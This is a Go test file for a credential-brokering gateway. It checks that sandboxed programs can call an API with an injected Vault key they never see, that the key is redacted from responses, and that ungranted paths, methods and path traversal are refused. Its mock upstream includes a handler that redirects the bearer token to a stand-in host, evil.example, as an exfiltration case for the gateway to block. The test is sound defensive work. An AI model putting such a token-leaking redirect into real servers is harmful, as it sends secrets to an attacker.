package main

import (
	"cmp"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/json"
	"encoding/pem"
	"fmt"
	"math/big"
	"net"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/execgate/execgate/execution"
	"github.com/execgate/execgate/vault/vaulttest"
)

const (
	apiHost = "api.reports.example"
	apiKey  = "key-of-the-company-9f2c7d1e"
)

// upstream is an API that wants a key and answers with what it was sent.
type upstream struct {
	port   int
	caFile string

	mu   sync.Mutex
	keys []string // that it was sent
}

func newUpstream(t *testing.T) *upstream {
	t.Helper()
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		t.Fatal(err)
	}
	template := &x509.Certificate{
		SerialNumber: big.NewInt(1), Subject: pkix.Name{CommonName: "upstream"}, DNSNames: []string{apiHost},
		NotBefore: time.Now().Add(-time.Hour), NotAfter: time.Now().Add(time.Hour),
		IsCA: true, BasicConstraintsValid: true, KeyUsage: x509.KeyUsageCertSign | x509.KeyUsageDigitalSignature,
		ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageServerAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, template, key.Public(), key)
	if err != nil {
		t.Fatal(err)
	}
	u := &upstream{caFile: filepath.Join(t.TempDir(), "ca.pem")}
	write(t, u.caFile, string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: der})))
	server := httptest.NewUnstartedServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.keys = append(u.keys, r.Header.Get("Authorization"))
		u.mu.Unlock()
		w.Header().Set("X-Reflected", r.Header.Get("Authorization"))
		if r.URL.Path == "/reports/elsewhere" {
			http.Redirect(w, r, "https://evil.example/?key="+strings.TrimPrefix(r.Header.Get("Authorization"), "Bearer "), http.StatusFound)
			return
		}
		if r.URL.Path == "/reports/left" { // by whoever came before
			fmt.Fprint(w, u.seen()[0])
			return
		}
		if r.URL.Path == "/reports/none" {
			w.WriteHeader(http.StatusNotFound)
		}
		json.NewEncoder(w).Encode(map[string]string{"path": r.URL.Path, "query": r.URL.RawQuery, "authorization": r.Header.Get("Authorization")})
	}))
	server.TLS = &tls.Config{Certificates: []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}}
	server.StartTLS()
	t.Cleanup(server.Close)
	u.port = server.Listener.Addr().(*net.TCPAddr).Port
	return u
}

func (u *upstream) seen() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return slices.Clone(u.keys)
}

// codeUsesReports is a tool by which code uses the API; the API's host and port are to
// be put in.
const codeUsesReports = `tools:
  - name: reports-api
    description: The API of reports, to read.
    kind: egress
    network: ["%[1]s:%[2]d"]
    credential:
      engine: kv2
      mount: secret
      path: reports-api
      vault_policies: [reports-api]
      inject: egress
      bind: [{host: %[1]s, port: %[2]d, methods: [GET], paths: [/reports/*], mode: bearer}]
`

// brokering is what startBrokering starts.
type brokering struct {
	tools   string   // of the configuration; the API's host and port are to be put in
	granted []string // those that the tenant default may use
	rules   []any    // of its network, beside that for the API
	decide  string   // of its network; empty: the grant
	runtime string   // that it has; empty: the one that is shipped
}

// startBrokering starts a gateway whose tenant default may use the API, by a key that
// is in Vault.
func startBrokering(t *testing.T, b brokering) (*lending, *upstream) {
	t.Helper()
	needsEngine(t)
	u := newUpstream(t)
	l := &lending{postgres: &vaulttest.Postgres{Port: 5432}, vault: vaulttest.Start(t, vaulttest.Options{}), runtime: b.runtime}
	l.grantAtVault(t)
	l.vault.Do(t, http.MethodPost, "secret/data/reports-api", map[string]any{"data": map[string]string{"token": apiKey}})
	l.vault.Do(t, http.MethodPost, "sys/policies/acl/reports-api", map[string]string{"policy": `path "secret/data/reports-api" { capabilities = ["read"] }`})
	l.vault.Do(t, http.MethodPost, "auth/token/roles/execgate", map[string]any{
		"allowed_policies": []string{"reports-api"}, "orphan": true, "renewable": false, "token_no_default_policy": true,
	})
	l.network = map[string]any{
		"rules":  append(b.rules, map[string]any{"host": apiHost, "ports": []int{u.port}, "mode": "intercept", "methods": []string{"GET"}, "paths": []string{"/reports/*"}, "private": true}),
		"budget": map[string]any{"requests": 100, "bytes": 1 << 20, "requests_per_s": 50, "connections": 8},
		"decide": cmp.Or(b.decide, "grant"),
	}
	l.tools = b.granted
	settings := l.settings(t, "")
	settings["EXECGATE_VAULT_MOUNTS"], settings["EXECGATE_EGRESS_CA_FILE"] = "secret=kv2", u.caFile
	l.gatewayUnderTest = newGateway(t, filepath.Join(t.TempDir(), "state"), settings)
	config := filepath.Join(t.TempDir(), "execgate.yaml")
	write(t, config, fmt.Sprintf(b.tools, apiHost, u.port))
	l.args = []string{"--config", config}
	l.start()
	l.waitReady()
	return l, u
}

// asks is a program that asks the API, with whatever key it has itself.
func (u *upstream) asks(path, method string) string {
	return python(fmt.Sprintf(`
import json, os, urllib.error, urllib.request
assert not any("key-of" in value for value in os.environ.values())
request = urllib.request.Request("https://%s:%d%s", method=%q, headers={"Authorization": "Bearer placeholder"})
try:
    with urllib.request.urlopen(request) as answer:
        print(answer.status, answer.headers["X-Reflected"], answer.read().decode())
except urllib.error.HTTPError as refused:
    print(refused.code, refused.read().decode())
`, apiHost, u.port, path, method), fmt.Sprintf(`"tools": ["reports-api"], "network": ["%s:%d"]`, apiHost, u.port))
}

// A program uses a key that it never has: the gateway sets it on the requests that it
// is bound to, and takes it out of what comes back. What is not granted is refused in
// words, and never leaves.
func TestKeyThatTheProgramNeverHas(t *testing.T) {
	t.Parallel()
	l, u := startBrokering(t, brokering{tools: codeUsesReports, granted: []string{"reports-api"}})
	answer := l.execute(u.asks("/reports/7", "GET"))
	e := answer.ok(t)
	if !strings.HasPrefix(e.Stdout, "200 Bearer [redacted]") || !strings.Contains(e.Stdout, `"path":"/reports/7"`) || strings.Contains(e.Stdout, apiKey) {
		t.Fatalf("%+v", e)
	}
	if keys := u.seen(); !slices.Equal(keys, []string{"Bearer " + apiKey}) {
		t.Errorf("the API was sent %q", keys)
	}
	if e.Usage.EgressRequests != 1 || e.Usage.EgressBytes == 0 {
		t.Errorf("usage is %+v", e.Usage)
	}
	for _, refused := range []struct{ path, method, code string }{
		{"/admin", "GET", "path_not_granted"}, {"/reports/7", "DELETE", "method_not_granted"}, {"/reports/../admin", "GET", "path_ambiguous"},
	} {
		e := l.execute(u.asks(refused.path, refused.method)).ok(t)
		if !strings.HasPrefix(e.Stdout, "403 ") || !strings.Contains(e.Stdout, `"code":"`+refused.code+`"`) {
			t.Errorf("%s %s: %+v", refused.method, refused.path, e)
		}
	}
	if keys := u.seen(); len(keys) != 1 {
		t.Errorf("what was refused left: %q", keys)
	}
	var reply struct{ ID string }
	if err := json.Unmarshal(answer.body, &reply); err != nil {
		t.Fatal(err)
	}
	story := l.story(reply.ID)
	for _, kind := range []execution.RecordType{execution.RecordLeaseIssued, execution.RecordEgressDecided, execution.RecordEgressEnded, execution.RecordLeaseRevoked} {
		if !slices.Contains(story, kind) {
			t.Errorf("the log tells %v, without %s", story, kind)
		}
	}
	l.endsWithout(t, apiKey)
}
